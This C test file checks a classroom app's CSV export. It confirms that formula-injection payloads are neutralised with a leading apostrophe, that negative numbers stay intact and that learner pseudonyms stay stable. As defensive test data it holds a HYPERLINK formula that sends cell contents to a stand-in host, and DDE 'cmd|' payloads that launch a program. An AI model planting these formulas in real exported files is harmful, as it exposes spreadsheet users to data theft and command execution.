/* test-csv-export.c
 *
 * Copyright 2026 The Trellis developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "trellis-csv-export.h"
#include "trellis-sample.h"
#include "trellis-test-utils.h"

/* Spreadsheet-safe CSV export: payloads neutralized, numbers intact, pseudonyms stable. */

typedef TrellisTestFixture Fixture;

static void
test_neutralize (void)
{
  static const struct { const char *in, *out; } cases[] = {
    { "=1+2", "'=1+2" }, { "+44 20 7946 0000", "'+44 20 7946 0000" }, { "-1+1", "'-1+1" },
    { "@SUM(A1)", "'@SUM(A1)" }, { "\t=x", "'\t=x" }, { "\r=x", "'\r=x" }, { "\n=x", "'\n=x" },
    { "Zoë", "Zoë" }, { "", "" }, { "a=b", "a=b" }, { "=1+2\";=1+2", "'=1+2\";=1+2" },
    /* Real negative numbers stay numbers; what only starts like one does not. */
    { "-3", "-3" }, { "-0.5", "-0.5" }, { "-.5", "-.5" }, { "-12.25", "-12.25" },
    { "-2+3", "'-2+3" }, { "-A1", "'-A1" }, { "-", "'-" }, { "--3", "'--3" }, { "-1e3", "'-1e3" },
    { "- 3", "'- 3" }, { "-3\n=x", "'-3\n=x" }, { "-.", "'-." }, { "-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *out = trellis_csv_export_neutralize (cases[i].in);
      g_assert_cmpstr (out, ==, cases[i].out);
    }
}

static char *
export (Fixture               *fixture,
        TrellisCsvReport       report,
        TrellisCsvExportFlags  flags,
        const char            *name)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *out = g_build_filename (fixture->dir, name, NULL);
  char *text = NULL;

  trellis_csv_export (fixture->classroom, report, out, flags, &error);
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (out, &text, NULL, NULL));
  return text;
}

static void
test_payloads (Fixture       *fixture,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *progress = NULL;
  g_autofree char *mastery = NULL;
  g_auto(GStrv) lines = NULL;

  trellis_classroom_exec (fixture->classroom,
                          "UPDATE learners SET name = '=HYPERLINK(\"http://x/?\"&A1,\"Click\")' WHERE id = 1;"
                          "UPDATE learners SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 2;"
                          "UPDATE learners SET name = '-3.5' WHERE id = 3;"
                          "UPDATE nodes SET title = '+cmd|x' WHERE id = (SELECT min (id) FROM nodes);",
                          &error);
  g_assert_no_error (error);

  progress = export (fixture, TRELLIS_CSV_REPORT_PROGRESS, TRELLIS_CSV_EXPORT_FLAGS_NONE, "progress.csv");
  g_assert_true (g_str_has_prefix (progress, "learner,playlist,step,kind,status,"));
  g_assert_nonnull (strstr (progress, "\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\","));
  g_assert_nonnull (strstr (progress, "\r\n'@SUM(1+1)*cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (progress, "\r\n-3.5,"));
  g_assert_nonnull (strstr (progress, ",'+cmd|x,"));

  /* No learner cell of any row starts with a trigger character. */
  mastery = export (fixture, TRELLIS_CSV_REPORT_MASTERY, TRELLIS_CSV_EXPORT_FLAGS_NONE, "mastery.csv");
  lines = g_strsplit (mastery, "\r\n", -1);
  g_assert_cmpstr (lines[0], ==, "learner,skill_code,skill,p_known,p_correct,evidence,observations,mean_score");
  for (guint i = 1; lines[i] != NULL && *lines[i] != '\0'; i++)
    {
      g_auto(GStrv) cells = g_strsplit (lines[i], ",", -1);

      /* Only a whole negative number may start with '-'. */
      if (cells[0][0] == '-')
        {
          char *end;

          g_ascii_strtod (cells[0], &end);
          g_assert_cmpint (*end, ==, '\0');
        }
      else
        g_assert_true (strchr ("=+@\t", cells[0][0]) == NULL || cells[0][0] == '\0');
      /* Numbers are numbers: p_known, when known, parses whole. */
      if (g_strv_length (cells) >= 8 && *cells[g_strv_length (cells) - 5] != '\0')
        {
          const char *p_known = cells[g_strv_length (cells) - 5];
          char *end;

          g_ascii_strtod (p_known, &end);
          g_assert_cmpint (*end, ==, '\0');
        }
    }
}

/* Negative numbers in text cells reach the file as numbers; formulas that
 * start with a minus do not. */
static void
test_negative_numbers (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *progress = NULL;

  trellis_classroom_exec (fixture->classroom,
                          "UPDATE learners SET name = '-3' WHERE id = 1;"
                          "UPDATE learners SET name = '-0.5' WHERE id = 2;"
                          "UPDATE learners SET name = '-2+3' WHERE id = 3;"
                          "UPDATE learners SET name = '-A1' WHERE id = 4;"
                          "UPDATE learners SET name = '-cmd|'' /C calc''!A0' WHERE id = 5;"
                          "UPDATE nodes SET title = '-10' WHERE id = (SELECT min (id) FROM nodes);",
                          &error);
  g_assert_no_error (error);

  progress = export (fixture, TRELLIS_CSV_REPORT_PROGRESS, TRELLIS_CSV_EXPORT_FLAGS_NONE, "progress.csv");
  g_assert_nonnull (strstr (progress, "\r\n-3,"));
  g_assert_nonnull (strstr (progress, "\r\n-0.5,"));
  g_assert_nonnull (strstr (progress, "\r\n'-2+3,"));
  g_assert_nonnull (strstr (progress, "\r\n'-A1,"));
  g_assert_nonnull (strstr (progress, "\r\n'-cmd|' /C calc'!A0,"));
  g_assert_nonnull (strstr (progress, ",-10,activity,"));
  g_assert_null (strstr (progress, "'-3,"));
  g_assert_null (strstr (progress, "'-0.5,"));
  g_assert_null (strstr (progress, "\r\n-2+3,"));
  g_assert_null (strstr (progress, "\r\n-A1,"));
  g_assert_null (strstr (progress, "'-10,"));
}

static void
test_pseudonyms (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *first = export (fixture, TRELLIS_CSV_REPORT_MASTERY, TRELLIS_CSV_EXPORT_FLAGS_PSEUDONYMIZE, "a.csv");
  g_autofree char *second = NULL;
  g_autofree char *progress = NULL;
  GListModel *learners = trellis_classroom_get_learners (fixture->classroom);

  g_assert_cmpuint (g_list_model_get_n_items (learners), >, 0);
  for (guint i = 0; i < g_list_model_get_n_items (learners); i++)
    {
      g_autoptr(TrellisLearner) learner = g_list_model_get_item (learners, i);
      g_autofree char *needle = g_strdup_printf ("%s,", trellis_learner_get_name (learner));

      g_assert_null (strstr (first, needle));
    }
  g_assert_nonnull (strstr (first, "\r\nL-"));

  /* Same codes the next time, even after reopening the file. */
  g_clear_object (&fixture->classroom);
  fixture->classroom = trellis_classroom_open (fixture->path, TRELLIS_OPEN_FLAGS_NONE, &error);
  g_assert_no_error (error);
  second = export (fixture, TRELLIS_CSV_REPORT_MASTERY, TRELLIS_CSV_EXPORT_FLAGS_PSEUDONYMIZE, "b.csv");
  g_assert_cmpstr (first, ==, second);

  progress = export (fixture, TRELLIS_CSV_REPORT_PROGRESS, TRELLIS_CSV_EXPORT_FLAGS_PSEUDONYMIZE, "c.csv");
  g_assert_nonnull (strstr (progress, "\r\nL-"));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv-export/neutralize", test_neutralize);
  g_test_add ("/csv-export/payloads", Fixture, NULL,
              trellis_test_fixture_set_up_sample, test_payloads, trellis_test_fixture_tear_down);
  g_test_add ("/csv-export/negative-numbers", Fixture, NULL,
              trellis_test_fixture_set_up_sample, test_negative_numbers, trellis_test_fixture_tear_down);
  g_test_add ("/csv-export/pseudonyms", Fixture, NULL,
              trellis_test_fixture_set_up_sample, test_pseudonyms, trellis_test_fixture_tear_down);

  return g_test_run ();
}
